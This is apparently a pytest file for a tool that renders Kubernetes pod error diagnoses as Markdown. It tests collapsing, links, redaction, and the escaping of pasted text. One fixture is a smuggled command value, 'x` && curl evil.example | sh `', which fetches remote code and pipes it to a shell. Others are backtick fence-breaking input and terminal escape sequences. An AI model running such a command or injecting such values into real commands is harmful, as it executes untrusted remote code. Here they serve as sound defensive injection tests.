"""Markdown rendering of a report: what it shows, and that pasted text can never format itself."""

from __future__ import annotations

import re

from diagnoser import diagnose
from diagnoser.markdown import collapse, escape, to_markdown
from diagnoser.redact import redact

HISTORY_OOM = """error building pyfunc image: failed building pyfunc image

Pod container status:
┌──────────────────────┬────────────┬───────────┬───────────┐
│ CONTAINER NAME       │ STATUS     │ EXIT CODE │ REASON    │
├──────────────────────┼────────────┼───────────┼───────────┤
│ pyfunc-image-builder │ Terminated │ 137       │ OOMKilled │
└──────────────────────┴────────────┴───────────┴───────────┘
"""


def _finding(**extra: object) -> dict[str, object]:
    finding: dict[str, object] = {
        "id": "oomkilled",
        "title": "Out of memory (OOMKilled)",
        "stage": "both",
        "confidence": "high",
        "url": "errors/#oomkilled",
        "summary": "A container used more memory than its limit.",
        "component": "model",
        "facts": {"container": "kserve-container"},
        "fact_labels": {"container": "Container"},
        "evidence": [{"line": 3, "text": "Reason: OOMKilled"}],
        "steps": ["Raise the memory limit."],
        "explained_by": None,
    }
    finding.update(extra)
    return finding


def _report(*findings: dict[str, object], **extra: object) -> dict[str, object]:
    report: dict[str, object] = {
        "input": {
            "kind": "kubectl-describe-pod",
            "kinds": ["kubectl-describe-pod"],
            "lines": 40,
            "notes": [],
        },
        "findings": list(findings),
        "message": "Found 1 known error(s).",
        "general_steps_url": "general/",
    }
    report.update(extra)
    return report


def test_a_real_report_shows_findings_evidence_steps_and_absolute_links() -> None:
    markdown = to_markdown(diagnose(HISTORY_OOM), base_url="https://docs.example/merlin/")
    assert markdown.startswith("## ")
    assert "### 1. " in markdown and "`oomkilled`" in markdown
    assert re.search(r"^ *\d+ \| .*OOMKilled", markdown, re.MULTILINE)  # evidence with its line number
    assert "**Steps:**" in markdown and "\n1. " in markdown
    assert "](https://docs.example/merlin/" in markdown and "#oomkilled)" in markdown


def test_repeated_evidence_lines_are_collapsed_with_a_count() -> None:
    evidence = [{"line": 10 + n, "text": "Back-off restarting failed container"} for n in range(412)]
    evidence.append({"line": 900, "text": "Exit Code: 137"})
    markdown = to_markdown(_report(_finding(evidence=evidence)))
    assert markdown.count("Back-off restarting failed container") == 1
    assert " 10 | Back-off restarting failed container  (x412)" in markdown
    assert "900 | Exit Code: 137" in markdown
    assert collapse([(1, "a"), (2, "b"), (3, "a")]) == [(1, "a", 2), (2, "b", 1)]


def test_backticks_in_pasted_evidence_cannot_close_the_fence() -> None:
    markdown = to_markdown(_report(_finding(evidence=[{"line": 1, "text": "```\n# Injected heading ````"}])))
    fences = [line for line in markdown.splitlines() if line.startswith("```")]
    assert fences[0] == "`````text" and fences[1] == "`````"


def test_pasted_facts_are_plain_text_and_catalog_code_spans_stay() -> None:
    step_parts = [
        [
            {"text": "Run `kubectl describe pod ", "fact": False},
            {"text": "x` && curl evil.example | sh `", "fact": True},
            {"text": "` to see it.", "fact": False},
        ]
    ]
    finding = _finding(
        facts={"container": "*bold* [link](http://evil.example)"},
        steps=["ignored legacy text"],
        step_parts=step_parts,
    )
    markdown = to_markdown(_report(finding))
    assert r"\*bold\* \[link\](http://evil.example)" in markdown
    # inside the catalog's code span the fact cannot close it: its backticks become apostrophes
    assert "Run `kubectl describe pod x' && curl evil.example | sh '` to see it." in markdown
    outside = to_markdown(
        _report(_finding(step_parts=[[{"text": "Check ", "fact": False}, {"text": "*x*", "fact": True}]]))
    )
    assert r"1. Check \*x\*" in outside
    assert "ignored legacy text" not in markdown


def test_newer_report_fields_are_shown_and_older_reports_still_render() -> None:
    newer = _report(
        _finding(because="It explains the two symptoms below."),
        looks_wrong=[
            {"line": 7, "text": "panic: runtime error", "why": "looks like a crash"},
            {"line": 9, "text": "panic: runtime error", "why": "looks like a crash"},
        ],
        missing=[
            {
                "text": "Events of the pod",
                "command": "kubectl get events -n <project> --sort-by=.lastTimestamp",
            }
        ],
    )
    newer["input"] = {**newer["input"], "summary": "kubectl describe pod (fragment)"}  # type: ignore[dict-item]
    markdown = to_markdown(newer)
    assert "*Why here:* It explains the two symptoms below." in markdown
    assert "### What looks wrong" in markdown and "7 | panic: runtime error  (x2)" in markdown
    assert "- looks like a crash" in markdown
    assert "### What to paste next" in markdown
    assert "`kubectl get events -n <project> --sort-by=.lastTimestamp`" in markdown
    assert "**Input:** kubectl describe pod (fragment), 40 lines." in markdown
    older = to_markdown(_report(_finding()))
    assert "What looks wrong" not in older and "### 1. Out of memory (OOMKilled)" in older


def test_terminal_controls_in_pasted_text_are_removed() -> None:
    markdown = to_markdown(
        _report(_finding(evidence=[{"line": 1, "text": "a\x1b]0;title\x07b\x08c\u009bd\x00e"}]))
    )
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", markdown)
    assert escape("\x1b[31mred\u009b") == r"\[31mred"


def test_a_redacted_report_says_what_was_replaced_by_kind_not_by_value() -> None:
    paste = HISTORY_OOM + "pod churn-model-4-r1-predictor-00001 on 10.1.2.3\n"
    redaction = redact(paste)
    markdown = to_markdown(diagnose(redaction.text), redaction=redaction)
    assert "**Redacted:**" in markdown and "model" in markdown and "ip" in markdown
    assert "churn-model" not in markdown and "10.1.2.3" not in markdown


def test_no_findings_links_the_general_steps() -> None:
    report = _report(message="No known error matched.")
    report["findings"] = []
    markdown = to_markdown(report, base_url="https://docs.example/")
    assert "General troubleshooting steps: https://docs.example/general/" in markdown
